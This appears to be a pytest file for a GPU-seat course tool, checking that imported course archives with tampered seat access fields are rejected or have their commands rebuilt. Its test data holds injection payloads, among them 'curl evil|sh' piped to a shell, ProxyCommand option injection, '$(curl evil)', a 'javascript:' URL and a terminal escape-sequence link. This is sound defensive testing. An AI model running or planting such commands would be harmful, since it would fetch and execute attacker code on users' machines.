"""A course export's ways in (each seat's ``access``) are checked at import by the rules gpuseat makes them with:
an edited or another site's export put ``ssh -oProxyCommand='curl evil|sh' x``, a host ``-oProxyCommand=…``, a
``javascript:`` URL or an escape sequence in a note on participants' pages as it came (SQLite and PostgreSQL)."""

from __future__ import annotations

import hashlib
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest

from gpuseat.cli import main
from gpuseat.core.readiness import Access
from gpuseat.services.delivery import build_access
from gpuseat.store import SeatSpec, open_store

from .test_export import make_small, rewrite

#: ways in as gpuseat makes them: seats connect, the SSH engines (a jump host), Slurm, Kubernetes, JupyterHub
WAYS = {
    "s-ssh": build_access("ann@gpu1.example.org:2222", None, "gw.example.org", ["ask in the chat"], None, None),
    "s-jump6": Access(
        kind="ssh", host="10.0.0.5", user="u1", jump_host="[2001:db8::1]",
        command="ssh -J '[2001:db8::1]' u1@10.0.0.5", notes=("VM gpuseat-small-s-jump6",), holder="a",
    ),
    "s-slurm": Access(
        kind="slurm", host="node01", user="a", command="srun -p course --reservation=day1 --gres=gpu:1 --pty bash",
        notes=("sbatch works the same way: sbatch -p course --gres=gpu:1 job.sh",), holder="a",
    ),
    "s-k8s": Access(kind="kubernetes", user="a", command="kubectl config set-context --current --namespace=gs-a"),
    "s-hub": Access(kind="jupyter", user="a", url="https://hub.example.org/user/a/", notes=("seat s-hub",)),
    "s-web": build_access(None, "https://portal.example.org:8443/x?y=1", None, [], None, "GPU-0123-4567"),
}  # fmt: skip


def exported(url: str, tmp_path: Path) -> Path:
    make_small(url)
    with open_store(url) as store:
        store.seats.add_seats("small", [SeatSpec(key=k, kind="gpu", memory_gb=80) for k in WAYS])
        for seat, way in WAYS.items():
            store.delivery.record_delivery("small", seat, access=way)
    path = tmp_path / "small.zip"
    assert main(["course", "export", "--course", "small", "--to", str(path), "--db", url]) == 0
    return path


def forged(good: Path, dst: Path, seat: str, change: dict[str, Any]) -> Path:
    """A copy of ``good`` whose seat ``seat`` has its way in changed, with the checksum made to match."""
    rows = json.loads(zipfile.ZipFile(good).read("seats.json"))
    for row in rows:
        if row["key"] == seat:
            row["access"] = {**row["access"], **change}
    blob = json.dumps(rows).encode()
    manifest = json.loads(zipfile.ZipFile(good).read("manifest.json"))
    manifest["sha256"]["seats.json"] = hashlib.sha256(blob).hexdigest()
    rewrite(good, dst, {"seats.json": blob, "manifest.json": manifest})
    return dst


def test_ways_in_gpuseat_makes_import_as_they_were(url: str, tmp_path: Path) -> None:
    good = exported(url, tmp_path)
    assert main(["course", "import", str(good), "--key", "copy", "--db", url]) == 0
    with open_store(url) as store:
        assert store.delivery.access_of("copy") == store.delivery.access_of("small")
        assert store.delivery.access_of("copy") == {k: v.to_dict() for k, v in WAYS.items()}


BAD = [
    ("s-ssh", {"host": "-oProxyCommand=curl evil|sh", "command": None}, "access.host"),
    ("s-ssh", {"port": 0}, "access.port"),
    ("s-ssh", {"port": "22"}, "access.port"),
    ("s-ssh", {"user": "a;b"}, "access.user"),
    ("s-ssh", {"jump_host": "-oProxyCommand=x", "command": None}, "access.jump_host"),
    ("s-ssh", {"notes": ["\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07"]}, "access.notes"),
    ("s-ssh", {"notes": "one"}, "access.notes"),
    ("s-ssh", {"kind": "telnet"}, "access.kind"),
    ("s-ssh", {"holder": "Al Ice"}, "access.holder"),
    ("s-hub", {"url": "javascript:alert(1)"}, "access.url"),
    ("s-hub", {"url": "https://hub.example.org/ x"}, "access.url"),
    ("s-web", {"device_uuid": "GPU-x;reboot"}, "access.device_uuid"),
]


@pytest.mark.parametrize(("seat", "change", "field"), BAD)
def test_a_forged_way_in_is_the_archives_error(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], seat: str, change: dict[str, Any], field: str
) -> None:
    bad = forged(exported(url, tmp_path), tmp_path / "bad.zip", seat, change)
    capsys.readouterr()
    assert main(["course", "import", str(bad), "--key", "copy", "--db", url]) == 2
    err = capsys.readouterr().err
    assert "seats.json[" in err and f"seat {seat!r}" in err and field in err, err
    assert "Traceback" not in err and err.count("error:") == 1, err
    with open_store(url) as store:  # nothing stored
        assert [c.key for c in store.courses.list_courses()] == ["small"]


REBUILT = [  # (seat, the archive's change, the command stored): never the archive's own command
    ("s-ssh", {"command": "ssh -oProxyCommand='curl evil|sh' x"}, "ssh -p 2222 -J gw.example.org ann@gpu1.example.org"),
    (
        "s-ssh",
        {"command": "ssh -p 2222 ann@gpu1.example.org; curl evil|sh"},
        "ssh -p 2222 -J gw.example.org ann@gpu1.example.org",
    ),
    ("s-ssh", {"host": "gpu2.example.org"}, "ssh -p 2222 -J gw.example.org ann@gpu2.example.org"),  # a stale command
    ("s-hub", {"command": "curl evil|sh"}, None),
    ("s-slurm", {"command": "srun -p course --gres=gpu:1 --pty bash; curl evil|sh"}, None),
    ("s-k8s", {"command": "kubectl config set-context --current --namespace=$(curl evil)"}, None),
]


@pytest.mark.parametrize(("seat", "change", "command"), REBUILT)
def test_a_way_ins_command_is_the_one_gpuseat_builds_whatever_the_archive_says(
    url: str, tmp_path: Path, seat: str, change: dict[str, Any], command: str | None
) -> None:
    """The command is derived from the checked fields (or the engine's own shape): an edited archive's
    ``; curl …``, or an older gpuseat's wording, is rebuilt or left out until the engine records it again."""
    bad = forged(exported(url, tmp_path), tmp_path / "bad.zip", seat, change)
    assert main(["course", "import", str(bad), "--key", "copy", "--db", url]) == 0
    with open_store(url) as store:
        assert store.delivery.access_of("copy")[seat]["command"] == command
